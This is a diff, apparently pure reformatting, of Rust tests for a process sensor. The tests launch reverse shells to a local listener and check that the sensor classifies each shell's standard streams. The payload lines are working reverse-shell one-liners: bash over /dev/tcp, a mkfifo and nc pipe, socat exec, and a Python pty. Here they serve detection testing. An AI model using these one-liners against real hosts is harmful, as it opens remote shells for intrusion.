@@ -30,9 +30,17 @@ fn call_back(payload: impl Fn(u16) -> Command, needs: &[&str]) -> Option<(Sensor
         skip(&format!("{missing} is not here"));
         return None;
     }
-    let sensor = Launch::default().with(["--events", "process.exec"]).start().unwrap();
+    let sensor = Launch::default()
+        .with(["--events", "process.exec"])
+        .start()
+        .unwrap();
     let (listener, port) = listener();
-    let mut child = payload(port).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
+    let mut child = payload(port)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
     let (shell, _) = listener.accept().unwrap();
     converse(shell);
     end(&mut child);
@@ -44,7 +52,10 @@ fn converse(mut shell: TcpStream) {
     shell.set_read_timeout(Some(PATIENCE)).unwrap();
     shell.write_all(b"echo answer=$((6*7)); exit\n").unwrap();
     let mut lines = BufReader::new(shell.try_clone().unwrap()).lines();
-    assert!(lines.any(|line| line.is_ok_and(|line| line.contains("answer=42"))), "no shell answered");
+    assert!(
+        lines.any(|line| line.is_ok_and(|line| line.contains("answer=42"))),
+        "no shell answered"
+    );
     let _ = shell.set_read_timeout(Some(Duration::from_millis(100)));
     let _ = shell.read(&mut [0; 64]);
 }
@@ -73,13 +84,28 @@ fn bash(script: String) -> Command {
 
 #[test]
 fn bash_over_dev_tcp_has_the_socket_on_all_three_streams() {
-    let payload = |port| bash(format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
-    let Some((mut sensor, port)) = call_back(payload, &["/bin/bash"]) else { return };
+    let payload = |port| {
+        bash(format!(
+            "exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
+        ))
+    };
+    let Some((mut sensor, port)) = call_back(payload, &["/bin/bash"]) else {
+        return;
+    };
     let event = shell(&mut sensor, "--norc");
     for stream in ["stdin", "stdout", "stderr"] {
-        assert_eq!(text(&event, &format!("sensor.stdio.{stream}.kind")), "inet_socket");
-        assert_eq!(text(&event, &format!("sensor.stdio.{stream}.peer")), "127.0.0.1");
-        assert_eq!(field(&event, &format!("sensor.stdio.{stream}.peer_port")), port);
+        assert_eq!(
+            text(&event, &format!("sensor.stdio.{stream}.kind")),
+            "inet_socket"
+        );
+        assert_eq!(
+            text(&event, &format!("sensor.stdio.{stream}.peer")),
+            "127.0.0.1"
+        );
+        assert_eq!(
+            field(&event, &format!("sensor.stdio.{stream}.peer_port")),
+            port
+        );
     }
 }
 
@@ -89,20 +115,35 @@ fn a_shell_behind_mkfifo_and_nc_reads_the_fifo_and_writes_a_pipe() {
     let fifo = directory.path().join("f");
     let path = fifo.to_str().unwrap().to_owned();
     let payload = move |port| {
-        bash(format!("mkfifo {path}; cat {path} | /bin/sh -s mark-fifo 2>&1 | nc 127.0.0.1 {port} > {path}"))
+        bash(format!(
+            "mkfifo {path}; cat {path} | /bin/sh -s mark-fifo 2>&1 | nc 127.0.0.1 {port} > {path}"
+        ))
     };
-    let Some((mut sensor, _)) = call_back(payload, &["/usr/bin/nc", "/bin/bash"]) else { return };
+    let Some((mut sensor, _)) = call_back(payload, &["/usr/bin/nc", "/bin/bash"]) else {
+        return;
+    };
     let event = shell(&mut sensor, "mark-fifo");
     assert_eq!(text(&event, "sensor.stdio.stdin.kind"), "pipe");
     assert_eq!(text(&event, "sensor.stdio.stdout.kind"), "pipe");
     let cat = sensor
         .wait_for(|event| text(event, "process.command_line").starts_with("cat /"))
         .unwrap();
-    assert_eq!(text(&cat, "sensor.stdio.stdout.description"), text(&event, "sensor.stdio.stdin.description"));
-    let nc = sensor.wait_for(|event| text(event, "process.command_line").starts_with("nc 127.0.0.1")).unwrap();
+    assert_eq!(
+        text(&cat, "sensor.stdio.stdout.description"),
+        text(&event, "sensor.stdio.stdin.description")
+    );
+    let nc = sensor
+        .wait_for(|event| text(event, "process.command_line").starts_with("nc 127.0.0.1"))
+        .unwrap();
     assert_eq!(text(&nc, "sensor.stdio.stdout.kind"), "fifo");
-    assert_eq!(text(&nc, "sensor.stdio.stdout.description"), fifo.to_str().unwrap());
-    assert_eq!(text(&nc, "sensor.stdio.stdin.description"), text(&event, "sensor.stdio.stdout.description"));
+    assert_eq!(
+        text(&nc, "sensor.stdio.stdout.description"),
+        fifo.to_str().unwrap()
+    );
+    assert_eq!(
+        text(&nc, "sensor.stdio.stdin.description"),
+        text(&event, "sensor.stdio.stdout.description")
+    );
 }
 
 #[test]
@@ -113,12 +154,16 @@ fn a_shell_behind_socat_has_a_terminal() {
         command.arg("exec:bash --noprofile --norc,pty,stderr,setsid,sigint,sane");
         command
     };
-    let Some((mut sensor, _)) = call_back(payload, &["/usr/bin/socat", "/bin/bash"]) else { return };
+    let Some((mut sensor, _)) = call_back(payload, &["/usr/bin/socat", "/bin/bash"]) else {
+        return;
+    };
     let event = shell(&mut sensor, "--noprofile");
     assert_eq!(text(&event, "process.name"), "bash");
     for stream in ["stdin", "stdout", "stderr"] {
         assert_eq!(text(&event, &format!("sensor.stdio.{stream}.kind")), "tty");
-        assert!(text(&event, &format!("sensor.stdio.{stream}.description")).starts_with("/dev/pts/"));
+        assert!(
+            text(&event, &format!("sensor.stdio.{stream}.description")).starts_with("/dev/pts/")
+        );
     }
 }
 
@@ -134,10 +179,19 @@ fn a_shell_of_pythons_pty_has_a_terminal_and_its_parent_the_socket() {
         ));
         command
     };
-    let Some((mut sensor, _)) = call_back(payload, &[python]) else { return };
+    let Some((mut sensor, _)) = call_back(payload, &[python]) else {
+        return;
+    };
     let event = sensor
         .wait_for(|event| text(event, "process.command_line") == "/bin/sh -i")
         .unwrap();
     assert_eq!(text(&event, "sensor.stdio.stdin.kind"), "tty");
-    assert_eq!(text(&event, "process.parent.executable").rsplit('/').next().unwrap().get(..6), Some("python"));
+    assert_eq!(
+        text(&event, "process.parent.executable")
+            .rsplit('/')
+            .next()
+            .unwrap()
+            .get(..6),
+        Some("python")
+    );
 }
